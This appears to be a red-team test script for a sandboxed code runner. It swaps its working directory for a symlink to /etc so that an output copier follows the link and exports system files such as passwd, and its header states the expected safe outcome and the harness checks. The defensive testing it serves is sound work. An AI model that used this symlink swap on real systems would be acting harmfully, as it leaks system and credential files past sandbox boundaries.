# REDTEAM-ID: out_22_workdir_swapped
# CATEGORY: output-tricks / path-traversal
# ATTACK: Replace the working directory itself. The script owns its home directory, so it can
#   rename the working directory away and put a symlink to / (or /etc) in its place. A copier that
#   archives "the working directory" by path follows the link and exports the whole image (or,
#   with a host-side copier, the HOST's /etc); one that lists then reads can be raced.
# EXPECTED SAFE OUTCOME: the link is not followed; nothing outside the working directory is
#   delivered; the user gets a specific "no files" error.
# HARNESS CHECK: H_CANARY_FILE (no passwd content), H_CLEAR_ERROR; nothing delivered.
# SAFETY BOUNDS: renames inside its own home only.
# EXPECT-JSON: {"self_verdict": ["INFO"], "may_be_killed": false, "max_wall_s": 15, "host_checks": ["H_CANARY_FILE", "H_CLEAR_ERROR"], "deliver_only": []}
import json
import os

RID = "out_22_workdir_swapped"


def main():
    with open("report.txt", "w") as f:
        f.write("REDTEAM-BENIGN report\n")
    here = os.getcwd()
    os.chdir("/")
    os.rename(here, here + ".moved")
    os.symlink("/etc", here)
    print(
        "REDTEAM_RESULT "
        + json.dumps(
            {
                "id": RID,
                "verdict": "INFO",
                "summary": "working directory replaced by a link to /etc",
                "details": {"workdir": here},
            }
        ),
        flush=True,
    )


if __name__ == "__main__":
    main()
